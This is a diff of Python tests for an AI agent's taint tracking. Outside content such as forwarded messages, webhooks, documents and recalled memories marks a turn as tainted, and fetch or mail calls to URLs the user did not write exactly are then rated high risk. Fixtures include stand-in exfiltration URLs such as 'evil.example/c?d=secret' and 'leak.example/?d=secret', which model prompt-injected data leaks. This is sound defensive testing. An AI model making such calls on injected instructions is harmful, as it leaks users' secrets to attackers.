@@ -21,7 +21,7 @@ from agentd.tools import CallState, ToolOutcome, call_risk
 from agentd.tools.base import Tool, ToolContext
 from agentd.tools.declare import tool
 from agentd.tools.fetch import assess_fetch, fetch_url_tool
-from agentd.tools.urls import normal_url, urls_in, user_url_in
+from agentd.tools.urls import url_host, urls_in, user_url_in
 
 
 def turn(**extra: Any) -> TurnInput:
@@ -37,23 +37,23 @@ def turn(**extra: Any) -> TurnInput:
     return TurnInput(**{**base, **extra})
 
 
-def test_the_users_own_words_do_not_taint_and_their_urls_are_known() -> None:
+def test_the_users_own_words_do_not_taint_and_their_urls_are_known_as_written() -> None:
     taint = turn_taint(
         turn(text="read https://Example.org/a."), photos=0, media_meta={}, memories=""
     )
     assert taint.sources == []
-    assert taint.urls == ["https://example.org/a"]
+    assert taint.user_urls == ["https://Example.org/a"]
 
 
 def test_each_kind_of_outside_content_taints() -> None:
     fwd = turn(text="buy now at https://shop.example/x", forwarded=True, forwarded_from="Eve")
     taint = turn_taint(fwd, photos=0, media_meta={}, memories="")
     assert taint.sources == ["a forwarded message (Eve)"]
-    assert taint.urls == []  # a forwarded URL is not the user's own
+    assert taint.user_urls == []  # a forwarded URL is not the user's own
     hook = turn(text="see https://attacker.example/x", outside_source="a webhook delivery (ci)")
     hooked = turn_taint(hook, photos=0, media_meta={}, memories="")
     assert hooked.sources == ["a webhook delivery (ci)"]
-    assert hooked.urls == []  # a URL in a webhook's body is its sender's, not the user's
+    assert hooked.user_urls == []  # a URL in a webhook's body is its sender's, not the user's
     doc = turn(kind="document", media=MediaRef(kind="document", file_id="f", file_name="cv.pdf"))
     assert turn_taint(doc, photos=0, media_meta={}, memories="").sources == ["a document (cv.pdf)"]
     audio = turn(kind="voice", media=MediaRef(kind="voice", file_id="v", forwarded=True))
@@ -65,9 +65,19 @@ def test_each_kind_of_outside_content_taints() -> None:
     assert turn_taint(turn(), photos=1, media_meta={}, memories="").sources == [
         "a photo (its text was read)"
     ]
+    # A recall journaled before memories said where they came from taints whenever it found
+    # any; now only the memories derived from outside content do, named.
     assert turn_taint(turn(), photos=0, media_meta={}, memories="- earlier: x").sources == [
         "memories recalled from earlier conversations"
     ]
+    owners = turn_taint(turn(), photos=0, media_meta={}, memories="- mine: x", recalled=[])
+    assert owners.sources == []
+    recalled = ["a recalled memory #4 (a forwarded message (Eve))"]
+    outside = turn_taint(turn(), photos=0, media_meta={}, memories="- x", recalled=recalled)
+    assert outside.sources == recalled
+    earlier = ["an earlier message in this chat (a forwarded message (Eve))"]
+    window = turn_taint(turn(text="ok"), photos=0, media_meta={}, memories="", context=earlier)
+    assert window.sources == earlier
     planted = turn(
         schedule_id="s1",
         scheduled_by="the assistant",
@@ -90,7 +100,7 @@ def _use(name: str, **args: Any) -> ToolUseBlock:
     return ToolUseBlock(id="toolu_1", name=name, input=args)
 
 
-def test_a_result_taints_only_if_its_tool_taints_and_it_ran() -> None:
+def test_a_result_taints_if_its_tool_taints_and_shows_no_urls() -> None:
     taint = TurnTaint()
     page = "URL: https://a.example/p\nSee https://b.example/q, and more."
     note_result(
@@ -100,13 +110,29 @@ def test_a_result_taints_only_if_its_tool_taints_and_it_ran() -> None:
         ToolOutcome(ok=True, content=page),
     )
     assert taint.sources == ["fetch_url (https://a.example/p)"]
-    assert set(taint.urls) == {"https://a.example/p", "https://b.example/q"}
-    failed = TurnTaint()
+    assert taint.user_urls == []  # a URL a result showed earns nothing
+    failed = TurnTaint()  # agentd's own error message
     refused = ToolOutcome(ok=False, content="Could not fetch", error_kind="tool_error")
     note_result(
         failed, _route("fetch_url", True), _use("fetch_url", url="https://x.example"), refused
     )
     assert failed.sources == []
+    mine = TurnTaint()  # search_memory finding the owner's own memories only
+    note_result(
+        mine,
+        _route("search_memory", False),
+        _use("search_memory", query="x"),
+        ToolOutcome(ok=True, content="- [note #1] mine"),
+    )
+    assert mine.sources == []
+    theirs = TurnTaint()  # and finding one drawn from outside content
+    note_result(
+        theirs,
+        _route("search_memory", False),
+        _use("search_memory", query="x"),
+        ToolOutcome(ok=True, content="- [note #2] a forwarded one", outside=True),
+    )
+    assert theirs.sources == ["search_memory (x)"]
     mcp = TurnTaint()  # an MCP server's error text is its words
     note_result(
         mcp,
@@ -134,7 +160,7 @@ def test_a_settled_call_taints_and_an_unknown_outcome_shows_no_urls() -> None:
         ToolOutcome(ok=True, content="Found it: https://m.example/x"),
     )
     assert settled.sources == ["read_mail (7)"]
-    assert settled.urls == ["https://m.example/x"]
+    assert settled.user_urls == []
     unknown = TurnTaint()  # the report echoes the model's own arguments: never a known URL
     report = f"{UNKNOWN_OUTCOME} The call was: send_mail body: https://leak.example/?d=secret"
     note_result(
@@ -143,10 +169,10 @@ def test_a_settled_call_taints_and_an_unknown_outcome_shows_no_urls() -> None:
         _use("send_mail", body="x"),
         ToolOutcome(ok=False, content=report, error_kind="exception"),
     )
-    assert unknown.urls == [] and unknown.sources == []
+    assert unknown.user_urls == [] and unknown.sources == []
 
 
-def test_fetch_asks_in_a_tainted_turn_only_for_a_url_it_has_not_seen() -> None:
+def test_fetch_asks_in_a_tainted_turn_for_any_url_the_user_did_not_write() -> None:
     fetch = fetch_url_tool(FetchPolicy())
     assert fetch.taints and not fetch.egress
     args = fetch.parse_args({"url": "https://evil.example/c?d=secret"})
@@ -154,13 +180,22 @@ def test_fetch_asks_in_a_tainted_turn_only_for_a_url_it_has_not_seen() -> None:
     tainted = CallState(tainted_by=("fetch_url (https://a.example/)",))
     verdict = call_risk(fetch, args, tainted)
     assert verdict.risk == "high"
-    assert "appeared neither in your own words" in verdict.reason
+    assert "URL you did not write yourself" in verdict.reason
     assert "fetch_url (https://a.example/)" in verdict.reason
-    seen = CallState(
-        tainted_by=tainted.tainted_by, known_urls=frozenset({"https://evil.example/c?d=secret"})
+    assert verdict.allow_host == "evil.example"  # the card offers to allow the host
+    written = CallState(
+        tainted_by=tainted.tainted_by, user_urls=frozenset({"https://evil.example/c?d=secret"})
     )
-    assert call_risk(fetch, args, seen).risk == "low"
-    assert assess_fetch(args, seen) is None
+    assert call_risk(fetch, args, written).risk == "low"
+    assert assess_fetch(args, written) is None
+    # Byte for byte: a suffix, a case change or a slash is a URL the user did not write.
+    base = CallState(tainted_by=tainted.tainted_by, user_urls=frozenset({"https://a.example/p"}))
+    for variant in ("https://a.example/p?x=1", "https://a.example/p/", "https://A.example/p"):
+        assert call_risk(fetch, fetch.parse_args({"url": variant}), base).risk == "high"
+    allowed = CallState(tainted_by=tainted.tainted_by, allowed_hosts=frozenset({"evil.example"}))
+    assert call_risk(fetch, args, allowed).risk == "low"
+    sub = fetch.parse_args({"url": "https://x.evil.example/"})
+    assert call_risk(fetch, sub, allowed).risk == "high"  # a host rule names one host
 
 
 def test_egress_tools_ask_in_a_tainted_turn() -> None:
@@ -178,15 +213,19 @@ def test_egress_tools_ask_in_a_tainted_turn() -> None:
     assert verdict.risk == "high" and "a document (cv.pdf)" in verdict.reason
 
 
-def test_urls_are_found_and_compared_normalised() -> None:
+def test_urls_are_found_as_written_and_compared_exactly() -> None:
     assert urls_in("see (https://A.example/x/), then http://b.example.") == [
-        "https://a.example/x",
+        "https://A.example/x/",
         "http://b.example",
     ]
-    assert normal_url("HTTPS://Host.Example/Path/") == "https://host.example/Path"
     text = "Your page https://Example.org/a. and https://other.example"
-    assert user_url_in(text, {"https://example.org/a"}) == "https://Example.org/a"
+    assert user_url_in(text, {"https://Example.org/a"}) == "https://Example.org/a"
+    assert user_url_in(text, {"https://example.org/a"}) is None
     assert user_url_in("only https://other.example", {"https://example.org/a"}) is None
+    assert url_host("HTTPS://Host.Example:8443/p") == "host.example:8443"
+    assert url_host("https://host.example:443/p") == "host.example"
+    assert url_host("http://[::1]:8080/") == "[::1]:8080"
+    assert url_host("not a url") == ""
 
 
 def test_forwarded_text_is_kept_as_someone_elses_words() -> None:
